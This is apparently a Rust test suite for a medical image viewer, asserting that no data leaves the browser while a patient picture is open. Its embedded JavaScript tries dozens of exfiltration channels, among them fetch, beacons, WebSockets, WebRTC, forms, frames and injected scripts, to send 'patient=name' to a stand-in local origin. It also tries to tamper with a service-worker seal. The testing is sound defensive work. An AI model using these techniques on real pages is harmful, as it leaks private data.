//! While a picture is open the page makes no network request, whatever a script tries.

use std::io::Read;
use std::net::{Ipv4Addr, TcpListener};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::{Value, json};

use crate::driver::Gpu;
use crate::page::Page;
use crate::pictures::Folder;

const PATIENCE: Duration = Duration::from_secs(60);

/// Another origin, which counts the clients that send anything.
struct OtherServer {
    port: u16,
    knocks: Arc<AtomicUsize>,
}

impl OtherServer {
    fn start() -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a free port");
        let port = listener.local_addr().expect("an address").port();
        let knocks = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&knocks);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                // A browser may open a connection ahead of a navigation that is then stopped; it sends nothing on it.
                let count = Arc::clone(&count);
                std::thread::spawn(move || {
                    if stream.read(&mut [0; 16]).is_ok_and(|bytes| bytes > 0) {
                        count.fetch_add(1, Ordering::SeqCst);
                    }
                });
            }
        });
        Self { port, knocks }
    }
}

/// Each way out, by name. `arguments[0]` is the other origin; each returns its outcome.
const WAYS_OUT: &str = r#"
const to = arguments[0], own = './no-such-file?patient=name';
const settled = promise => promise.then(answer => `${answer.status}`, error => error.name);
const violation = act => new Promise(done => {
  const heard = event => done(`stopped: ${event.effectiveDirective}`);
  const turned = event => done(`stopped: ${event.type}`);
  document.addEventListener('securitypolicyviolation', heard, { once: true });
  window.addEventListener('onsight-stopped', turned, { once: true });
  // What a Trusted Type is asked for is refused at once, and told of a little later.
  try { act(); } catch {}
  setTimeout(() => {
    document.removeEventListener('securitypolicyviolation', heard);
    window.removeEventListener('onsight-stopped', turned);
    done('nothing stopped it');
  }, 30000);
});
// A page that may not send forms tells nobody that one was not sent: that this goes on is what shows it.
const goesOn = act => new Promise(done => {
  try { act(); } catch {}
  setTimeout(() => done('stopped: the page is still here'), 1500);
});
const element = (name, set) => Object.assign(document.body.appendChild(document.createElement(name)), set);
const request = (method, url) => new Promise(done => {
  const sent = new XMLHttpRequest();
  sent.open(method, url);
  sent.onload = () => done(`${sent.status}`);
  sent.onerror = () => done('error');
  sent.send(method === 'POST' ? 'patient=name' : null);
});
return (async () => ({
  'fetch, own host': await settled(fetch(own)),
  'fetch with a body, own host': await settled(fetch(own, { method: 'POST', body: 'patient=name' })),
  'XMLHttpRequest, own host': await request('POST', own),
  'XMLHttpRequest that blocks': await violation(() => { const sent = new XMLHttpRequest(); sent.open('GET', own, false); sent.send(); }),
  'hint of a host': await violation(() => element('link', { rel: 'dns-prefetch', href: to })),
  'hint of a host, as an attribute': await violation(() => element('link', {}).setAttribute('REL', 'preconnect')),
  'beacon, own host': await new Promise(done => { navigator.sendBeacon(own, 'patient=name'); setTimeout(done, 300, 'sent'); }),
  'picture, own host': await new Promise(done => element('img', { src: own, onload: () => done('loaded'), onerror: () => done('error') })),
  'fetch': await violation(() => fetch(to).catch(() => 0)),
  'XMLHttpRequest': await violation(() => request('GET', to)),
  'WebSocket': await violation(() => { try { new WebSocket(to.replace('http', 'ws')); } catch {} }),
  'EventSource': await violation(() => { try { new EventSource(to); } catch {} }),
  'beacon': await violation(() => { try { navigator.sendBeacon(to, 'patient=name'); } catch {} }),
  'picture': await violation(() => element('img', { src: to })),
  'script': await violation(() => element('script', { src: to })),
  'style': await violation(() => element('link', { rel: 'stylesheet', href: to })),
  'frame': await violation(() => element('iframe', { src: to })),
  'worker': await violation(() => { try { new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '")']))); } catch {} }),
  'script of a word': await violation(() => element('script', { text: `fetch('${to}')` })),
  'frame of a word': await violation(() => element('iframe', { srcdoc: `<img src="${to}">` })),
  'page of a word': await violation(() => element('div', { innerHTML: `<img src="./no-such-file" onerror="fetch('${to}')">` })),
  'inline script': await violation(() => element('script', { textContent: `fetch('${to}')` })),
  'form': await goesOn(() => {
    const form = element('form', { method: 'POST', action: to });
    form.append(Object.assign(document.createElement('input'), { name: 'patient', value: 'name' }));
    form.submit();
  }),
  'window': await violation(() => window.open(to)),
  // An empty frame would have functions of its own, which the page's script has not replaced.
  'empty frame': await violation(() => element('iframe', {})),
  'empty frame by its namespace': await violation(() => document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'))),
  'frame as a document': await violation(() => document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe')),
  'frame of an element of its own': await violation(() => customElements.define('a-frame', class extends HTMLIFrameElement {}, { extends: 'iframe' })),
  'no frame has come': length === 0 ? 'stopped: none' : `${length} frames`,
  'WebRTC': await violation(() => new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] })),
  'channel to other tabs': await violation(() => new BroadcastChannel('x').postMessage('patient=name')),
  'cookie': await violation(() => { document.cookie = 'patient=name'; }),
  'link into a new window': await violation(() => Object.assign(document.createElement('a'), { href: to, target: '_blank' }).click()),
  'address of this page': await violation(() => history.pushState(null, '', '?patient=name')),
  'look for a newer version': await violation(() => navigator.serviceWorker.getRegistration().then(found => found.update()).catch(() => 0)),
  'credentials': navigator.credentials === undefined ? 'stopped: taken away' : 'there',
  // Neither is the seal: a script may say so, and delete what it finds.
  'seal, own host': await (async () => {
    navigator.serviceWorker.controller.postMessage({ kind: 'unseal' });
    navigator.serviceWorker.controller.postMessage({ kind: 'unseal', secret: new Uint8Array(32) });
    navigator.serviceWorker.controller.postMessage({ kind: 'seal', lock: 'another' });
    for (const name of await caches.keys()) if (name.includes('seal')) await caches.delete(name);
    return settled(fetch(own));
  })(),
  // What a visitor can have fetched is fetched for the page's first script alone, whoever brings a lock of his own.
  'model, own host': await (async () => {
    const { controller } = navigator.serviceWorker;
    const came = secret => new Promise(done => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => done(data.came);
      controller.postMessage({ kind: 'model', folder: 'brain-mri', secret }, [port2]);
      setTimeout(done, 30000, 'no answer');
    });
    const own = new Uint8Array(32).fill(7);
    const hash = new Uint8Array(await crypto.subtle.digest('SHA-256', own));
    controller.postMessage({ kind: 'seal', lock: [...hash].map(byte => byte.toString(16).padStart(2, '0')).join('') });
    const answers = [await came(), await came(new Uint8Array(32)), await came(own)];
    return answers.every(answer => answer === 'refused') ? 'stopped: refused' : answers.join();
  })(),
  'handle of the seal': window.onsightSeal === undefined ? 'stopped: taken' : 'there',
  'form, own host': await goesOn(() => element('form', { method: 'POST', action: './share' }).submit()),
}))();
"#;

#[test]
fn while_a_picture_is_open_nothing_leaves_by_any_way() {
    let elsewhere = OtherServer::start();
    let to = format!("http://127.0.0.1:{}/?patient=name", elsewhere.port);
    let folder = Folder::new("sealed");
    let page = Page::open(Gpu::None, "?backend=cpu");
    page.wait_for_guard();
    // As from the second visit on: the page itself comes from the service worker, with every header.
    page.browser.reload();
    page.wait_for_guard();
    let before = page.requests().len();
    page.answer(&folder.drawn("name-of-a-patient.png", 70));
    assert_eq!(ledger(&page)["seal"], "sealed", "{}", page.text("[data-testid=ledger]"));
    let ends = page.browser.run(WAYS_OUT, &json!(to));
    for (way, end) in ends.as_object().expect("an object") {
        let end = end.as_str().unwrap_or_default();
        let own = way.ends_with("own host");
        let stopped = if own { ["503", "405", "error", "sent"].contains(&end) } else { false };
        assert!(stopped || end.starts_with("stopped: "), "{way}: {end}");
    }
    // Out of the page: to another origin, another folder of the same host, another file of this one.
    for address in [to.as_str(), "/elsewhere?patient=name", "./no-such-page?patient=name"] {
        page.browser.run("location.href = arguments[0]; return 0", &json!(address));
        std::thread::sleep(Duration::from_millis(500));
        page.expect("[data-testid=result]");
    }
    assert_eq!(elsewhere.knocks.load(Ordering::SeqCst), 0, "another origin was reached");
    let asked = page.requests().split_off(before);
    // After a reload the browser itself checks for a newer service worker, at a time of its choosing. No script can
    // stop that request or put anything into it; it must carry no data.
    let by_the_page: Vec<_> =
        asked.iter().filter(|request| !request.target.ends_with("/sw.js") || request.body_bytes > 0).collect();
    assert!(by_the_page.is_empty(), "the host was asked while a picture was open: {by_the_page:?}");
    // The page's list is filled by messages of the service worker, which may still be under way.
    let told = page.browser.expect("a list of all attempts", PATIENCE, |_| {
        let told = ledger(&page);
        let refused: usize = told["refused"].as_str().and_then(|count| count.parse().ok()).expect("a count");
        (refused >= 28).then_some(told)
    });
    assert_eq!((told["left"].as_str(), told["leftBytes"].as_str()), (Some("0"), Some("0")), "{told}");
    page.browser.expect("nothing that has left, in words", PATIENCE, |_| {
        page.text("[data-testid=ledger]").contains("0 requests, 0 bytes left this device").then_some(())
    });
    assert_eq!(stored(&page, "name-of-a-patient"), json!([]), "the picture's name was written down");
    // Once the picture is closed, the page may request what it needs from its host, and still from no other.
    page.remove_all();
    let open = "return fetch('./no-such-file').then(answer => answer.status)";
    // The other script has set a lock of its own, which keeps the network blocked as long as this page exists.
    assert_eq!(page.browser.run(open, &Value::Null), 503);
    page.browser.reload();
    page.wait_for_guard();
    assert_eq!(page.browser.run(open, &Value::Null), 404);
}

#[test]
fn every_request_of_a_first_visit_is_listed() {
    let page = Page::open(Gpu::None, "?backend=cpu");
    page.wait_for_guard();
    let base = page.requests().first().map(|request| request.target.clone()).expect("the page");
    let base = base.split('?').next().unwrap_or_default().to_owned();
    let own: Vec<String> = page
        .requests()
        .into_iter()
        .filter_map(|request| {
            let inside = request.target.strip_prefix(&base)?.to_owned();
            // The service worker and what it fetches for itself are not requests of the page.
            (!inside.starts_with("sw.js")).then_some(inside)
        })
        .collect();
    let needed = ["app", "worker", "models/"];
    for needed in needed {
        assert!(own.iter().any(|target| target.starts_with(needed)), "the host saw no {needed}: {own:?}");
    }
    // Modules that this visit does not use are fetched by the service worker alone.
    let unused = ["worker_gpu", "worker_threads", "reader", "lightbox", "vault", "cases", "catalogue", "reports"];
    let is_used = |target: &&String| !unused.iter().any(|name| target.starts_with(name));
    let listed_whole = own.iter().filter(|target| target.starts_with("models/") || target.ends_with(".wasm"));
    let listed_whole: Vec<&String> = listed_whole.filter(is_used).collect();
    // The browser tells the page of a request when it has ended, which the host knows earlier.
    page.browser.expect(&format!("{needed:?} and all of {listed_whole:?} in the list"), PATIENCE, |browser| {
        let listed = "return [...document.querySelectorAll('.ledger__address')].map(line => line.textContent)";
        let listed: Vec<String> = serde_json::from_value(browser.run(listed, &Value::Null)).expect("a list");
        let is_whole = listed_whole.iter().all(|target| listed.contains(&format!("./{target}")));
        let is_begun = |needed: &str| listed.iter().any(|line| line.starts_with(&format!("./{needed}")));
        (is_whole && needed.into_iter().all(is_begun)).then_some(())
    });
}

fn ledger(page: &Page) -> Value {
    page.browser.run("return {...document.querySelector('[data-testid=ledger]').dataset}", &Value::Null)
}

/// Where the browser has stored `needle`: settings, databases, and addresses and contents of caches.
fn stored(page: &Page, needle: &str) -> Value {
    let script = r#"
    const needle = arguments[0], found = [];
    const look = (place, text) => { if (text.includes(needle)) found.push(place); };
    look('localStorage', JSON.stringify(localStorage));
    look('sessionStorage', JSON.stringify(sessionStorage));
    look('cookies', document.cookie);
    return (async () => {
      look('databases', JSON.stringify(await indexedDB.databases()));
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) {
          look(name, request.url);
          const type = (await cache.match(request)).headers.get('content-type') ?? 'text';
          if (!/wasm|image/.test(type)) look(request.url, await (await cache.match(request)).text());
        }
      }
      return found;
    })();
    "#;
    page.browser.run(script, &json!(needle))
}
